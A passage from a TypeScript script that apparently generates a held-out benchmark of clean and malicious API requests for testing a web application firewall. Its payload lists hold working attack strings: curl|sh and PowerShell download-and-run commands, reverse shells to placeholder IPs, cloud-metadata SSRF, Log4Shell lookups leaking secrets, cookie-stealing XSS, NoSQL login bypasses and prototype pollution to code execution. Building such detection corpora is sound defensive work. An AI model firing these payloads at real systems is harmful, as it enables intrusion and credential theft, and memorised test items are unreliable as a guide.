    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    '${{<%[%\'"}}%\\.',
    '{{lipsum.__globals__["os"].popen("whoami").read()}}',
    '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  ],
  command: [
    '; id',
    '| cat /etc/passwd',
    '`whoami`',
    '$(curl -s http://203.0.113.7/x.sh|sh)',
    '&& wget http://198.51.100.23/s -O /tmp/s && chmod +x /tmp/s && /tmp/s',
    "\n/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'",
    '|| ping -c 10 127.0.0.1 ||',
    '; nslookup $(whoami).c2.oast.example',
    ';${IFS}cat${IFS}/etc/passwd',
    '$(sleep 5)',
    '& powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a\')"',
    '; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.4",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
    '|nc -e /bin/sh 198.51.100.4 4444',
    "a'; uname -a; echo '",
    '%0Aid%0A',
    '$(echo${IFS}Y2F0IC9ldGMvc2hhZG93|base64${IFS}-d|sh)',
  ],
  'path-traversal': [
    '../../../../etc/passwd',
    '..%2f..%2f..%2f..%2fetc%2fpasswd',
    '....//....//....//etc/passwd',
    '..\\..\\..\\..\\windows\\win.ini',
    '/proc/self/environ',
    '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/shadow',
    '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
    '..%c0%af..%c0%af..%c0%afetc/passwd',
    '/..;/..;/..;/etc/passwd',
    '../../../../../../root/.ssh/id_rsa',
    '..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts',
    'file:///etc/passwd',
    '../../../app/.env',
    '/var/www/../../etc/passwd%00.png',
    '..;/..;/WEB-INF/web.xml',
    '%252e%252e%252fetc%252fpasswd',
  ],
  ssrf: [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
    'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
    'http://2852039166/latest/user-data',
    'gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A',
    'http://localhost:2375/containers/json',
    'dict://127.0.0.1:11211/stats',
    'http://0x7f.0x0.0x0.0x1:8080/admin',
    'http://127.1:9200/_cat/indices',
    'http://169.254.170.2/v2/credentials/',
    'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
    'https://cdn.example.com@169.254.169.254/latest/meta-data/',
    'http://0.0.0.0:8500/v1/agent/self',
    'http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
    'http://[0:0:0:0:0:ffff:127.0.0.1]:8080/actuator/env',
    'http://169.254.169.254.nip.io/latest/meta-data/',
    'file:///proc/self/cmdline',
  ],
  log4shell: [
    '${jndi:ldap://198.51.100.9:1389/a}',
    '${${lower:j}ndi:${lower:l}dap://x7.oast.example/a}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5:1099/o}',
    '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.k1.oast.example}',
    '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.9/a}',
    '${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.5/Exploit}',
    '${${upper:j}ndi:ldaps://x7.oast.example:636/b}',
    '${jndi:ldap://127.0.0.1#evil.oast.example:1389/a}',
    '${${sys:os.name:-j}ndi:iiop://203.0.113.5/c}',
    '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://198.51.100.9/d}',
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.5/e}",
    '${jndi:ldap://${hostName}.${java:version}.x7.oast.example/f}',
  ],
  xss: [
    '<script>alert(document.domain)</script>',
    '<img src=x onerror=alert(1)>',
    "<svg/onload=fetch('//x.oast.example/'+document.cookie)>",
    'javascript:alert(1)',
    '"><iframe srcdoc="<script>parent.alert(1)</script>">',
    '<details open ontoggle=confirm`1`>',
    '<a href="jAvAsCrIpT:alert(1)">click me</a>',
    "'-alert(1)-'",
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<body onpageshow=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    "<img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    '<x contenteditable onblur=alert(1)>lose focus!</x>',
    "</textarea><script>import('//x.oast.example/p.js')</script>",
    '<video><source onerror="alert(1)">',
    '"><svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
};

const EMBED: Record<string, (p: string) => string> = {
  sql: (p) => `Hi, I can't find my order, the number is 5521${p} — can you check? thanks`,
  template: (p) => `Hello ${p}, welcome to the team! Let us know if you have questions.`,
  command: (p) => `Please convert my file report.pdf${p} to PNG when you get a chance`,
  'path-traversal': (p) => `Attachment reference: ${p} (see previous message)`,
  ssrf: (p) => `Our new logo is hosted here: ${p} — please use it on the menu page`,
  log4shell: (p) => `Great episode! Loved the part about Postgres ${p} keep it up`,
  xss: (p) => `Loved the food, will order again ${p} 5 stars!!`,
};

function unicodeEscapeJson(obj: Record<string, unknown>, payload: string): string {
  let esc = '';
  let letters = 0;
  for (let i = 0; i < payload.length; i++) {
    const ch = payload[i] as string;
    const isAlnum = /[A-Za-z0-9]/.test(ch);
    if (isAlnum && letters++ % 3 !== 0) esc += ch;
    else esc += `\\u${payload.charCodeAt(i).toString(16).padStart(4, '0')}`;
  }
  const raw = JSON.stringify(obj);
  const enc = JSON.stringify(payload);
  return raw.replace(enc, () => `"${esc}"`);
}

const TECHNIQUES = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
  'embedded',
] as const;

function attackReq(family: string, tech: string, p: string, t: Target): CorpusRequest {
  const d = D[t.dk] as Domain;
  const role = FAMILY_ROLE[family] as Role;
  const [wpath, field, base] = t.write[role];
  const [gpath, gparam] = t.get[role];
  const st: Style = pick(['browser', 'browser', 'mobile', 'sdk']);
  const A = (method: string, path: string, h: Hdrs, body: string): CorpusRequest =>
    mk('attack', method, path, h, body, family, tech);
  const J = (obj: unknown, path = wpath): CorpusRequest =>
    A('POST', path, hdrs(d, st, JSON_CT), JSON.stringify(obj));
  switch (tech) {
    case 'plain':
      return J({ ...base, [field]: p });
    case 'nested':
      return J({ ...base, data: { attributes: { settings: { [field]: p, locale: 'en-US' } } } });
    case 'key':
      return J({ ...base, [field]: 'ok', metadata: { [p]: 'true', source: 'web' } });
    case 'array':
      return J({ ...base, [`${field}s`]: [role === 'url' ? 'https://cdn.example.com/a.png' : 'first', p] });
    case 'unicode-escape':
      return A('POST', wpath, hdrs(d, st, JSON_CT), unicodeEscapeJson({ ...base, [field]: p }, p));
    case 'json-in-string':
      return J({ ...base, options: JSON.stringify({ [field]: p, version: 2 }) });
    case 'base64':
      return J({ ...base, [field]: b64(p), [`${field}Encoding`]: 'base64' });
    case 'graphql-variable':
      return A(
        'POST',
        '/graphql',
        hdrs(d, st, JSON_CT),
        JSON.stringify({
          query: t.gql[0],
          variables: {
            id: 'cmp_81QxZ',
            cardId: 'Vn3k1aQ9',
            orderId: 'FF-20931',
            topicId: '4412',
            [t.gql[1]]: p,
          },
        }),
      );
    case 'double-encoded':
      return A(
        'GET',
        `${gpath}?${gparam}=${encodeURIComponent(encodeURIComponent(p))}&limit=20`,
        hdrs(d, st),
        '',
      );
    case 'query-param':
      return A('GET', `${gpath}?${pick([qs, qsUri])({ [gparam]: p, page: '1' })}`, hdrs(d, st), '');
    case 'header': {
      const name =
        role === 'url'
          ? pick(['x-forwarded-host', 'x-original-url', 'referer'])
          : role === 'file'
            ? pick(['x-original-url', 'x-rewrite-url', 'x-file-name'])
            : pick(['x-forwarded-for', 'referer', 'x-api-version', 'accept-language', 'x-correlation-id']);
      return A(
        'GET',
        `${gpath}?${qs({ [gparam]: role === 'url' ? 'https://example.com/' : 'report' })}`,
        hdrs(d, 'browser', undefined, { [name]: p.replace(/\r?\n/g, ' ') }),
        '',
      );
    }
    case 'cookie': {
      const h = hdrs(d, 'browser');
      const v = pick([true, false]) ? encodeURIComponent(p) : p.replace(/;/g, '%3B').replace(/\r?\n/g, '%0A');
      h.cookie = `${h.cookie}; ${pick(['last_search', 'pref_layout', 'locale', 'return_to'])}=${v}`;
      return A('GET', `${gpath}?${qs({ [gparam]: 'weekly' })}`, h, '');
    }
    case 'form': {
      const [fpath, ffield, fbase] = t.form;
      return A('POST', fpath, hdrs(d, 'browser', FORM_CT), qs({ ...fbase, [ffield]: p }));
    }
    case 'multipart': {
      const inFile = pick([true, false]);
      const svg = family === 'xss' || family === 'ssrf';
      const parts: Part[] = svg
        ? [
            { name: 'name', value: 'logo' },
            {
              name: 'file',
              filename: 'logo.svg',
              type: 'image/svg+xml',
              value:
                family === 'ssrf'
                  ? `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="${p}" width="64" height="64"/></svg>`
                  : `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64"><circle cx="32" cy="32" r="30" fill="#f60"/>${p}</svg>`,
            },
          ]
        : inFile
          ? [
              { name: 'title', value: 'notes' },
              {
                name: 'file',
                filename: role === 'file' ? p : 'notes.txt',
                type: 'text/plain',
                value: role === 'file' ? 'hello' : `line 1\n${p}\nline 3`,
              },
            ]
          : [
              { name: field, value: p },
              { name: 'file', filename: 'photo.png', type: 'image/png', value: PNG },
            ];
      const m = multipart(parts, st === 'sdk');
      return A('POST', t.upload, hdrs(d, st, m.ct), m.body);
    }
    default:
      return J({ ...base, [field]: (EMBED[family] as (x: string) => string)(p) });
  }
}

function nosqlAttacks(): CorpusRequest[] {
  const F = 'nosql';
  const m = D.market as Domain;
  const l = D.lms as Domain;
  const f = D.food as Domain;
  const c = D.cdp as Domain;
  const k = D.kanban as Domain;
  const ch = D.chat as Domain;
  const A = (tech: string, method: string, path: string, h: Hdrs, body: string): CorpusRequest =>
    mk('attack', method, path, h, body, F, tech);
  const J = (tech: string, d: Domain, path: string, obj: unknown, method = 'POST'): CorpusRequest =>
    A(tech, method, path, hdrs(d, pick<Style>(['browser', 'mobile', 'sdk']), JSON_CT), JSON.stringify(obj));
  return [
    J('plain', m, '/v1/auth/login', { email: 'admin@gigloom.com', password: { $ne: null } }),
    J('plain', l, '/api/v1/login', { username: { $gt: '' }, password: { $gt: '' } }),
    J('plain', c, '/v1/profiles/query', { email: { $regex: '^adm', $options: 'i' } }),
    J('plain', m, '/v1/auth/reset', { email: 'victim@example.com', token: { $regex: '^a' } }),
    J('nested', f, '/v2/orders/lookup', {
      filter: { customer: { phone: { $regex: '.*' } }, status: { $nin: [] } },
    }),
    J('nested', c, '/v1/audiences/preview', { rules: { match: { $where: 'sleep(5000) || true' } } }),
    J('nested', k, '/v1/cards/query', {
      filter: {
        board: '8JqkRz',
        owner: { $function: { body: 'function(){ return true }', args: [], lang: 'js' } },
      },
    }),
    J('key', k, '/v1/cards/query', { $where: "this.ownerId != ''", limit: 100 }),
    J('key', m, '/v1/gigs/query', { $or: [{ status: 'draft' }, { status: { $exists: true } }] }),
    J('key', c, '/v1/events/aggregate', {
      pipeline: [{ $lookup: { from: 'users', localField: 'userId', foreignField: '_id', as: 'u' } }],
    }),
    J('array', m, '/v1/users/bulk', { ids: [{ $ne: null }], fields: ['email', 'passwordHash'] }),
    J('array', f, '/v2/orders/search', { statuses: ['paid', { $gt: '' }] }),
    A(
      'unicode-escape',
      'POST',
      '/v1/auth/login',
      hdrs(m, 'browser', JSON_CT),
      '{"email":"admin@gigloom.com","password":{"\\u0024ne":null}}',
    ),
    A(
      'unicode-escape',
      'POST',
      '/api/v1/login',
      hdrs(l, 'mobile', JSON_CT),
      '{"username":"admin","password":{"\\u0024\\u0072egex":"^.*"}}',
    ),
    J('json-in-string', c, '/v1/profiles', {
      filter: '{"traits.role":{"$ne":null},"$where":"1==1"}',
      limit: 500,
    }),
    J('json-in-string', k, '/v1/search/advanced', { query: '{"assignee":{"$gt":""}}' }),
    A(
      'base64',
      'GET',
      `/v2/orders?${qs({ cursor: b64('{"_id":{"$gt":""},"userId":{"$ne":null}}') })}`,
      hdrs(f, 'mobile'),
      '',
    ),
    J('base64', c, '/v1/exports', { filter: b64('{"$where":"sleep(3000)"}'), filterEncoding: 'base64' }),
    J('graphql-variable', m, '/graphql', {
      query: 'query Gigs($where: JSON) { gigs(where: $where) { id priceCents seller { email } } }',
      variables: { where: { priceCents: { $lt: 0 }, $where: '1 == 1' } },
    }),
    J('graphql-variable', l, '/graphql', {
      query: 'query User($filter: UserFilter) { users(filter: $filter) { id login_id } }',
      variables: { filter: { login_id: { $regex: '.*' } } },
    }),
    A(
      'double-encoded',
      'GET',
      '/api/v1/users?username%255B%2524ne%255D=x&password%255B%2524ne%255D=x',
      hdrs(l, 'browser'),
      '',
    ),
    A(
      'query-param',
      'GET',
      `/v1/users?${qs({ 'email[$ne]': 'x', 'role[$in][]': 'admin' })}`,
      hdrs(m, 'browser'),
      '',
    ),
    A(
      'query-param',
      'GET',
      '/v2/coupons/validate?code[$regex]=^FREE&restaurant=rst_tts01',
      hdrs(f, 'sdk'),
      '',
    ),
    A('query-param', 'GET', `/v1/profiles?${qs({ where: '{"$where":"sleep(5000)"}' })}`, hdrs(c, 'sdk'), ''),
    A('header', 'GET', '/v1/me', hdrs(k, 'sdk', undefined, { 'x-filter': '{"owner":{"$ne":null}}' }), ''),
    A(
      'cookie',
      'GET',
      '/api/v10/users/@me',
      { ...hdrs(ch, 'browser'), cookie: `__hearth_sid=j%3A%7B%22%24ne%22%3Anull%7D; theme=dark` },
      '',
    ),
    A(
      'form',
      'POST',
      '/login/canvas',
      hdrs(l, 'browser', FORM_CT),
      qs({ 'pseudonym_session[unique_id]': 'admin', 'pseudonym_session[password][$ne]': 'wrong' }),
    ),
    A(
      'form',
      'POST',
      '/account/login',
      hdrs(m, 'browser', FORM_CT),
      'email=admin%40gigloom.com&password%5B%24gt%5D=',
    ),
    (() => {
      const mp = multipart([
        { name: 'email', value: 'admin@gigloom.com' },
        { name: 'password[$ne]', value: '1' },
      ]);
      return A('multipart', 'POST', '/v1/auth/login', hdrs(m, 'browser', mp.ct), mp.body);
    })(),
    J('embedded', ch, '/api/v10/guilds/9911/messages/search', {
      content: "admin' || 'a'=='a",
      channel: '20441',
    }),
    J('embedded', c, '/v1/audiences', {
      name: 'VIP',
      definition: "traits.plan == 'pro'; return true; var x='",
    }),
  ];
}

function protoAttacks(): CorpusRequest[] {
  const F = 'prototype-pollution';
  const k = D.kanban as Domain;
  const m = D.market as Domain;
  const mail = D.mail as Domain;
  const c = D.cdp as Domain;
  const ch = D.chat as Domain;
  const p = D.pod as Domain;
  const f = D.food as Domain;
  const A = (tech: string, method: string, path: string, h: Hdrs, body: string): CorpusRequest =>
    mk('attack', method, path, h, body, F, tech);
  const J = (
    tech: string,
    d: Domain,
    path: string,
    raw: string,
    method = 'POST',
    ct = JSON_CT,
  ): CorpusRequest => A(tech, method, path, hdrs(d, pick<Style>(['browser', 'mobile', 'sdk']), ct), raw);
  return [
    J('plain', k, '/v1/users/me/preferences', '{"theme":"dark","__proto__":{"isAdmin":true}}', 'PUT'),
    J(
      'plain',
      m,
      '/v1/me/profile',
      '{"constructor":{"prototype":{"role":"admin"}}}',
      'PATCH',
      'application/merge-patch+json',
    ),
    J(
      'plain',
      k,
      '/v1/cards/Vn3k1aQ9',
      '[{"op":"add","path":"/__proto__/isAdmin","value":true}]',
      'PATCH',
      'application/json-patch+json',
    ),
    J(
      'plain',
      c,
      '/v1/sources/src_01/settings',
      '[{"op":"replace","path":"/constructor/prototype/role","value":"owner"}]',
      'PATCH',
      'application/json-patch+json',
    ),
    J('plain', ch, '/api/v10/users/@me/settings', '{"__proto__":{"status":510}}', 'PATCH'),
    J('plain', m, '/v1/me/profile', '{"__proto__":{"json spaces":" "}}', 'PATCH'),
    J(
      'nested',
      k,
      '/v1/boards/8JqkRz',
      '{"settings":{"theme":"dark","labels":{"__proto__":{"canDelete":true}}}}',
      'PATCH',
    ),
    J(
      'nested',
      mail,
      '/v3/campaigns/cmp_81QxZ/render',
      '{"data":{"contact":{"first_name":"Sam"},"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').exec(\'id\');var __tmp2"}}}',
    ),
    J(
      'nested',
      p,
      '/v1/episodes/142/transcode',
      '{"options":{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}}',
    ),
    J(
      'nested',
      c,
      '/v1/destinations',
      '{"type":"webhook","config":{"headers":{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'id\')"]}}}}',
    ),
    J('key', k, '/v1/automations/rules/set', '{"__proto__.isAdmin":true,"name":"rule 1"}'),
    J('key', m, '/v1/settings', '{"path":"constructor.prototype.isAdmin","value":true}', 'PUT'),
    J('key', c, '/v1/identify', '{"userId":"u_1","traits":{"a.__proto__.polluted":"yes"}}'),
    J(
      'array',
      f,
      '/v2/orders',
      '{"restaurantId":"rst_tts01","items":[{"menuItemId":"itm_1","quantity":1},{"__proto__":{"priceCents":0}}]}',
    ),
    J(
      'array',
      ch,
      '/api/v10/channels/20441/messages/bulk',
      '[{"content":"hi"},{"constructor":{"prototype":{"admin":true}}}]',
    ),
    J(
      'unicode-escape',
      k,
      '/v1/users/me/preferences',
      '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}',
      'PUT',
    ),
    J(
      'unicode-escape',
      m,
      '/v1/me/profile',
      '{"\\u0063onstructor":{"\\u0070rototype":{"role":"admin"}}}',
      'PATCH',
    ),
    J(
      'json-in-string',
      m,
      '/v1/me/preferences',
      JSON.stringify({ state: '{"__proto__":{"admin":1}}' }),
      'PUT',
    ),
    J(
      'json-in-string',
      c,
      '/v1/track',
      JSON.stringify({
        event: 'Signed Up',
        userId: 'u_9',
        properties: { raw: '{"constructor":{"prototype":{"isAdmin":true}}}' },
      }),
    ),
    J(
      'base64',
      k,
      '/v1/boards/import',
      JSON.stringify({ format: 'kanbo-json', data: b64('{"name":"Imported","__proto__":{"isAdmin":true}}') }),
    ),
    J(
      'graphql-variable',
      k,
      '/graphql',
      JSON.stringify({
        query: 'mutation U($input: PrefsInput!) { updatePreferences(input: $input) { ok } }',
        variables: { input: JSON.parse('{"__proto__":{"isAdmin":true}}') },
      }),
    ),
    A('double-encoded', 'GET', '/v1/boards?__proto__%255BisAdmin%255D=true', hdrs(k, 'browser'), ''),
    A(
      'query-param',
      'GET',
      `/v1/gigs?${qs({ '__proto__[isAdmin]': 'true', q: 'logo' })}`,
      hdrs(m, 'browser'),
      '',
    ),
    A(
      'query-param',
      'GET',
      '/v2/restaurants/search?q=thai&constructor[prototype][role]=admin',
      hdrs(f, 'mobile'),
      '',
    ),
    A('query-param', 'GET', `/v1/episodes?${qs({ 'a[__proto__][polluted]': '1' })}`, hdrs(p, 'sdk'), ''),
    A(
      'cookie',
      'GET',
      '/v3/campaigns',
      {
        ...hdrs(mail, 'browser'),
        cookie: `mv_sess=${chars(32, B64URL)}; prefs=j%3A%7B%22__proto__%22%3A%7B%22admin%22%3Atrue%7D%7D`,
      },
      '',
    ),
    A(
      'header',
      'GET',
      '/v1/me',
      hdrs(c, 'sdk', undefined, { 'x-client-options': '{"__proto__":{"debug":true}}' }),
      '',
    ),
    A(
      'form',
      'POST',
      '/subscribe/post',
      hdrs(mail, 'browser', FORM_CT),
      qs({ EMAIL: 'x@example.com', '__proto__[isAdmin]': '1' }),
    ),
    A(
      'form',
      'POST',
      '/settings/feed',
      hdrs(p, 'browser', FORM_CT),
      qs({ title: 'Night Shift', 'constructor[prototype][explicit]': 'yes' }),
    ),
    (() => {
      const mp = multipart([
        { name: 'name', value: 'settings backup' },
        {
          name: 'file',
          filename: 'settings.json',
          type: 'application/json',
          value: '{"notifications":true,"__proto__":{"isAdmin":true,"role":"owner"}}',
        },
      ]);
      return A('multipart', 'POST', '/v1/settings/import', hdrs(k, 'browser', mp.ct), mp.body);
    })(),
    (() => {
      const mp = multipart([
        { name: '__proto__[role]', value: 'admin' },
        { name: 'avatar', filename: 'me.png', type: 'image/png', value: PNG },
      ]);
      return A('multipart', 'POST', '/api/v10/users/@me/avatar', hdrs(ch, 'browser', mp.ct), mp.body);
    })(),
    J(
      'embedded',
      k,
      '/v1/boards/import',
      JSON.stringify({
        format: 'trello',
        board: {
          name: 'Marketing Q1',
          lists: [{ name: 'To do', cards: [{ name: 'Write blog post', desc: 'Draft by Friday' }] }],
          prefs: JSON.parse('{"background":"blue","__proto__":{"isAdmin":true}}'),
        },
      }),
    ),
  ];
}

/** Attack traffic: each request carries `family` and `technique`. */
function buildAttacks(): CorpusRequest[] {
  const out: CorpusRequest[] = [];
  const extra = new Set(['plain', 'embedded', 'query-param', 'multipart']);
  let ti = 0;
  for (const family of Object.keys(FAMILY_ROLE)) {
    const pool = PAYLOADS[family] as string[];
    let pi = int(0, pool.length - 1);
    for (const tech of TECHNIQUES) {
      const n = extra.has(tech) ? 3 : 2;
      for (let j = 0; j < n; j++) {
        const payload = pool[pi++ % pool.length] as string;
        out.push(attackReq(family, tech, payload, TARGETS[ti++ % TARGETS.length] as Target));
      }
    }
  }
  out.push(...nosqlAttacks(), ...protoAttacks());
  return out.map((r, i) => ({ ...r, id: `h10a${i + 1}` }));
}

/** The held-out corpus #10: clean API traffic and API attacks from eight domains unseen by the WAF's authors. */
export const heldout10: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: buildClean(),
  attacks: buildAttacks(),
};

if (import.meta.main) {
  const here = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(here, 'clean-heldout10.json'), `${JSON.stringify(heldout10.clean, null, 2)}\n`);
  writeFileSync(join(here, 'attacks-heldout10.json'), `${JSON.stringify(heldout10.attacks, null, 2)}\n`);
  console.log(`heldout10: ${heldout10.clean.length} clean, ${heldout10.attacks.length} attacks`);
}
